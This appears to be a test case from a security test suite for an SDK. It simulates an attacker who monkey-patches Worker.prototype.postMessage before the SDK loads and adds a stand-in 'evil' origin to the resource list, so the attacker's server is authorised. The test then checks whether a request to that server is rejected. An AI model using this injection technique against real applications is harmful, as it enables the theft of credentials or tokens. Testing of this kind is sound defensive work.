// A real attacker: runs before the SDK and changes the configuration on its way to the worker, so that the attacker's
// server is on the list of resources.
export default {
  row: "patch-before",
  expected: ["wins", "loses"],
  before: ({ evil, api }) => {
    const { postMessage } = Worker.prototype;
    Worker.prototype.postMessage = function (message, ...rest) {
      if (message?.resources) {
        const mine = { origin: evil, audience: `${api}/es256`, scope: "read" };
        message = { ...message, resources: [...message.resources, mine] };
      }
      return postMessage.call(this, message, ...rest);
    };
  },
  after: ({ evil }, redteam) => redteam.attempt(`${evil}/v1/me`),
  reached: ({ brought }) => brought === "resource_not_allowed",
};
